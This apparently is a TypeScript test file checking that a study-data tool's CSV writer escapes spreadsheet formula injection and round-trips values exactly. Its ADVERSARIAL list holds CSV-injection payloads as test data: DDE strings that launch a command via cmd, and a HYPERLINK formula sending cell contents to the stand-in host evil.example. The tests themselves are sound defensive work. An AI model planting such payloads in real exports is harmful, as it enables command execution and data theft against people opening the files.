/**
 * CSV injection (issue 15, item 6): text a spreadsheet would run as a formula (it begins with
 * = + - @, a tab or a carriage return) is written with a leading ' and quoted; the readers take the
 * quote off, so a study folder goes through writer → importer to exactly the text written, and
 * numbers (-3.5 in an item, an activity or a covariate column) stay plain numbers.
 */
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { csvCell, escapeFormula, unescapeFormula, CsvWriter, readCsv, readCsvBatches } from '../../src/util/csv.js';
import { StudyWriter } from '../../src/data/writer.js';
import { loadStudy } from '../../src/data/load.js';
import { validateStudy } from '../../src/data/index.js';
import { tempDir } from './fixture.js';

/** Text that must come back exactly, most of it dangerous in a spreadsheet. */
export const ADVERSARIAL = [
  '=A1', '=1+1', '=HYPERLINK("http://evil.example/?"&A1,"click")', '=cmd|\' /C calc\'!A0', '+1+1', '+x', '-5 points', '-', '--',
  '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '@', '\t=A1', '\tx', '\rx', '\r\n=x', "'=A1", "''", "'", "'tis", "'-3",
  "''=x", '=', ' =A1', 'plain', '', 'a,b', 'say "hi"', 'multi\nline', 'é=', '＝A1', '-3.5', '+2', '-1e-7', '1e5', '.5', '-.5', '-3.5x',
  '-Infinity', '-0x10', 'DDE("cmd";"/C calc";"!A0")A0',
];

/** Does a spreadsheet take this raw (unquoted-by-CSV) cell for a formula? */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/.test(cell);

/** Every cell of a CSV file as a spreadsheet receives it (quotes taken off, nothing else). */
const rawCells = (path: string): string[] => (parse(readFileSync(path, 'utf8'), { bom: true, relax_column_count: true }) as string[][]).flat();

describe('escapeFormula / csvCell', () => {
  it('prefixes formula text with a quote and quotes the cell; numbers and ordinary text are written as they are', () => {
    expect(csvCell('=A1')).toBe(`"'=A1"`);
    expect(csvCell('-5 points')).toBe(`"'-5 points"`);
    expect(csvCell('@SUM(1+1)')).toBe(`"'@SUM(1+1)"`);
    expect(csvCell('+x')).toBe(`"'+x"`);
    expect(csvCell('\tx')).toBe(`"'\tx"`);
    expect(csvCell('=HYPERLINK("u")')).toBe(`"'=HYPERLINK(""u"")"`);
    expect(csvCell("'=A1")).toBe(`"''=A1"`); // so that reading it back gives '=A1, not =A1
    expect(csvCell("'tis")).toBe("'tis");
    expect(csvCell(-3.5)).toBe('-3.5');
    expect(csvCell('-3.5')).toBe('-3.5');
    expect(csvCell('-1e-7')).toBe('-1e-7');
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell(NaN)).toBe('');
  });

  it('property: unescapeFormula inverts escapeFormula, and no written text cell runs as a formula', () => {
    const text = fc.oneof(fc.string(), fc.string({ unit: 'binary' }), fc.constantFrom(...ADVERSARIAL),
      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "''", "'='"), fc.string()).map(([a, b]) => a + b));
    fc.assert(fc.property(text, (s) => {
      expect(unescapeFormula(escapeFormula(s))).toBe(s);
      expect(runsAsFormula(escapeFormula(s))).toBe(false);
    }), { numRuns: 5000 });
    // Numbers: never escaped, in either form.
    fc.assert(fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (x) => {
      expect(csvCell(x)).toBe(String(x));
      expect(csvCell(String(x))).toBe(String(x));
    }));
  });

  it('property: CsvWriter → readCsv and readCsvBatches give back every text exactly', async () => {
    const text = fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom(...ADVERSARIAL),
      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "''"), fc.string()).map(([a, b]) => a + b));
    await fc.assert(fc.asyncProperty(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 20 }), async (rows) => {
      const path = join(tempDir(), 'p.csv');
      const w = new CsvWriter(path, ['a', 'b']);
      for (const r of rows) await w.write(r);
      await w.close();
      for (const c of rawCells(path).slice(2)) expect(runsAsFormula(c), JSON.stringify(c)).toBe(false);
      const viaParse: string[][] = [];
      for await (const r of readCsv(path)) viaParse.push([r.values.a, r.values.b]);
      const viaBatches: string[][] = [];
      for await (const b of readCsvBatches(path, { chunkBytes: 64 })) for (const r of b.records) viaBatches.push([r[0], r[1]]);
      expect(viaBatches).toEqual(rows);
      expect(viaParse).toEqual(rows);
    }), { numRuns: 150 });
  });
});

describe('study folder: writer → importer round trip of formula text', () => {
  it('keeps ids, covariates and notes exactly, numbers as numbers, and validates', async () => {
    const dir = join(tempDir(), 'study');
    const w = await StudyWriter.open(dir, {
      name: 'csv injection', timezone: 'Europe/Berlin',
      items: [{ id: 'mood', min: -3, max: 3 }, { id: 'calm', min: 0, max: 100 }],
      activity: { channels: ['zcm', 'temp'], epochSeconds: 60 },
    }, { participantColumns: ['note', 'score'], reportColumns: ['comment', 'delta'] });
    const pids = ['-P1', '=P2', '@P3', '+P4', "'P5", 'P6'];
    const t0 = Date.UTC(2024, 2, 4, 8);
    const notes: Record<string, string> = {}, comments: Record<string, string> = {};
    for (const [i, pid] of pids.entries()) {
      notes[pid] = ADVERSARIAL[i % ADVERSARIAL.length];
      await w.writeParticipant({ participantId: pid, extra: { note: notes[pid], score: i % 2 ? -3.5 : '-3.5' } });
    }
    let k = 0;
    for (const [i, pid] of pids.entries()) {
      for (let j = 0; j < 7; j++, k++) {
        const id = j % 2 ? `=R${k}` : `r${k}`;
        comments[id] = ADVERSARIAL[k % ADVERSARIAL.length];
        await w.writeReport({ reportId: id, participantId: pid, time: t0 + (i * 7 + j) * 3_600_000, trigger: 'scheduled',
          items: { mood: -2.5 + (k % 5), calm: 50 }, extra: { comment: comments[id], delta: -0.25 * k } });
      }
      await w.writeActivityRun(pid, t0 - 3_600_000, [Float64Array.from({ length: 30 }, (_, e) => e), Float64Array.from({ length: 30 }, (_, e) => -1.5 - e)]);
    }
    await w.close();

    // What a spreadsheet sees: no cell runs as a formula; numbers are plain, unquoted numbers.
    for (const f of ['participants.csv', 'reports.csv', 'activity.csv']) {
      for (const c of rawCells(join(dir, f))) expect(runsAsFormula(c), `${f}: ${JSON.stringify(c)}`).toBe(false);
    }
    const reportsText = readFileSync(join(dir, 'reports.csv'), 'utf8');
    expect(reportsText).toContain(',-2.5,50,');
    expect(reportsText).toContain(`"'=A1"`);
    expect(readFileSync(join(dir, 'activity.csv'), 'utf8')).toContain(',-1.5\n');
    expect(readFileSync(join(dir, 'participants.csv'), 'utf8')).toContain(`"'-P1",,"'=A1",-3.5`);

    // The importer reads back exactly what was written.
    const { study, issues } = await loadStudy(dir, { progress: false });
    expect(issues).toEqual([]);
    expect(study!.participants.map((p) => p.id)).toEqual(pids);
    for (const p of study!.participants) expect(p.covariates).toEqual({ note: notes[p.id], score: '-3.5' });
    const r = study!.reports;
    expect(r.n).toBe(k);
    for (let i = 0; i < r.n; i++) {
      expect(r.covariates.comment[i]).toBe(comments[r.id[i]]);
      expect(r.covariates.delta[i]).toBe(String(-0.25 * i));
      expect(r.items[i * 2]).toBe(-2.5 + (i % 5));
    }
    expect(Object.keys(comments)).toEqual(r.id);
    // A few epochs per participant: no 60-epoch window fills (a warning with allowMissingModality).
    const v = await validateStudy(dir, { progress: false, allowMissingModality: true });
    expect(v.issues).toEqual([]);
    expect(v.ok).toBe(true);
  });
});
